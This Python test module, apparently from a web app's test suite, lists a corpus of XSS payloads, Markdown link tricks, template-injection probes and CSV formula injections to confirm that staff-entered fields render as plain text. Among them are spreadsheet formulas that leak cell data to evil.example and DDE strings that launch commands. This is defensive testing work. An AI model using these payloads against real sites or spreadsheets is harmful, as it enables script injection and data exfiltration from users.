"""The payload corpus: hostile text that every field a member of staff
controls must carry to every surface as plain text.

Drawn from OWASP's XSS filter-evasion cheat sheet and PortSwigger's XSS
cheat sheet (event handlers), plus what this site's own formats invite:
Markdown links and images with javascript:/data:/vbscript: addresses,
attribute breaking, entity and Unicode tricks, ``</script>`` in text (JSON-LD),
control characters (feeds, XML) and spreadsheet formula prefixes (CSV)."""

# PortSwigger's event handlers, each on an element that fires it.
EVENT_HANDLERS = [
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur",
    "onanimationstart", "onanimationend", "ontransitionend", "ontoggle",
    "onpointerover", "onpointerdown", "onbegin", "onend", "onmouseenter",
    "onkeydown", "oninput", "onchange", "onscroll", "onwheel", "onauxclick",
    "oncopy", "oncut", "onpaste", "ondrag", "ondrop", "onresize", "onhashchange",
    "onpageshow", "onfocusin", "onbeforetoggle", "oncontentvisibilityautostatechange",
]  # fmt: skip

HANDLER_PAYLOADS = (
    [f'<img src=x {handler}="alert(1)">' for handler in EVENT_HANDLERS]
    + [f"<svg {handler}=alert(1)>" for handler in EVENT_HANDLERS[:10]]
    + [
        f'<details open {handler}="alert(1)">x</details>'
        for handler in EVENT_HANDLERS[:6]
    ]
)

SCRIPT_AND_RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<input autofocus onfocus=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<style>@import "javascript:alert(1)";</style>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<select><option><script>alert(1)</script>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
]

SVG = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"></use></svg>',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
]

ATTRIBUTE_BREAKING = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus="alert(1)',
    '"/><svg onload=alert(1)>',
    "` onmouseover=alert(1) `",
    '" style="position:fixed;inset:0" onclick="alert(1)',
    '"; alert(1); var x="',
    "'; alert(1); var x='",
    '\\"; alert(1); //',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "}]}<script>alert(1)</script>",
]

SCRIPT_CLOSERS = [
    "</script><script>alert(1)</script>",
    "</SCRIPT><script>alert(1)</script>",
    "</script ><img src=x onerror=alert(1)>",
    "<!--<script>",
    "\u2028alert(1)\u2029",
    '"}</script><script>alert(1)</script>',
    "</style><script>alert(1)</script>",
]

ENTITY_AND_UNICODE = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "\u202egnp.exe",
    "\u200b<script>alert(1)</script>",
    "\ufeff<img src=x onerror=alert(1)>",
    "\u0130nstanbul <ı> İ",
    "𝒳𝒮𝒮 <svg onload=alert(1)>",
    "Zalgo ̖̟̪̳̖<script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\\u003cscript\\u003ealert(1)",
    "{{ 7*7 }}",
    "{% debug %}",
    "${7*7}",
]

# Markdown a body, standfirst or summary may hold (bodies are Markdown).
MARKDOWN = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x"onerror="alert(1)](https://example.org/x.png)',
    '[x](https://example.org/"onmouseover="alert(1))',
    '[x](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "<javascript:alert(1)>",
    '<https://example.org/"onclick=alert(1)>',
    "[a](#)<img src=x onerror=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "> <img src=x onerror=alert(1)>",
    "* [x](vbscript:alert(1))",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "<details><summary>x</summary><script>alert(1)</script></details>",
]

CONTROL_CHARACTERS = [
    "Form\x0cfeed",
    "Null\x00byte",
    "Bell\x07",
    "Escape\x1b[31mred",
    "Vertical\x0btab",
    "Backspace\x08",
    "Delete\x7f",
    "C1 \x85 next line",
    "Unit\x1fseparator",
    "Non-character \ufffe",
]

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
    "＝1+1",
    '=DDE("cmd";"/C calc";"!A0")',
]

PAYLOADS_ALL = [
    *HANDLER_PAYLOADS,
    *SCRIPT_AND_RAW_HTML,
    *SVG,
    *ATTRIBUTE_BREAKING,
    *SCRIPT_CLOSERS,
    *ENTITY_AND_UNICODE,
    *MARKDOWN,
    *CONTROL_CHARACTERS,
    *FORMULAS,
]
PAYLOADS = list(dict.fromkeys(PAYLOADS_ALL))  # each once


def groups(limit: int, separator: str = " ¦ ") -> list[str]:
    """The payloads packed into as few strings of at most ``limit``
    characters as they fit in, so that one object carries many of them."""
    packed, current = [], ""
    for payload in PAYLOADS:
        payload = payload[:limit]
        candidate = f"{current}{separator}{payload}" if current else payload
        if len(candidate) > limit:
            packed.append(current)
            current = payload
        else:
            current = candidate
    if current:
        packed.append(current)
    return packed
